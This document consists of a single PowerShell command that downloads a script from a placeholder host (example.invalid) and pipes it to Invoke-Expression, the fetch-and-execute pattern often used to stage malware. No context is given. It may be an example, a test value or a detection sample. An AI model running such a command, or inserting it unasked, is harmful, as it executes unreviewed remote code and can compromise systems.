iwr -useb https://example.invalid/a.ps1 | iex
